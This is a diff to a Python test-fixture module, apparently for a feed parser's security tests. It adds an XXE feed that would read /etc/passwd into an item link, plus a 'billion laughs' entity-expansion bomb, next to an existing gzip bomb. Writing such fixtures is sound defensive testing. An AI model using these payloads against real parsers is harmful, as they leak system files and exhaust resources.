@@ -221,6 +221,25 @@ def rss(title: str, links: list[str]) -> bytes:
             "</channel></rss>\n").encode()
 
 
+def external_entity_feed(base: str) -> bytes:
+    """An RSS feed whose item link would carry /etc/passwd if the parser read external entities."""
+    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
+            '<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
+            '<rss version="2.0"><channel><title>Leaky</title><link>http://hostile.invalid/</link>'
+            f"<description>x</description><item><title>Leak</title>"
+            f"<link>{base}/hostile/a/leak?d=&secret;</link></item></channel></rss>\n").encode()
+
+
+def entity_bomb_feed(levels: int = 10, fanout: int = 10) -> bytes:
+    """"Billion laughs": `fanout ** levels` copies of one word if entities were expanded."""
+    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * fanout}">' for n in range(1, levels))
+    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
+            f'<!DOCTYPE rss [<!ENTITY e0 "laugh">{entities}]>\n'
+            '<rss version="2.0"><channel><title>Laughs</title><link>http://hostile.invalid/</link>'
+            f"<description>&e{levels - 1};</description><item><title>&e{levels - 1};</title>"
+            "<link>http://hostile.invalid/x</link></item></channel></rss>\n").encode()
+
+
 @cache
 def gzip_bomb(inflated: int = 110 * 1024 * 1024) -> bytes:
     """A gzip member of ~110 KB that inflates to `inflated` bytes of zeros (built once)."""
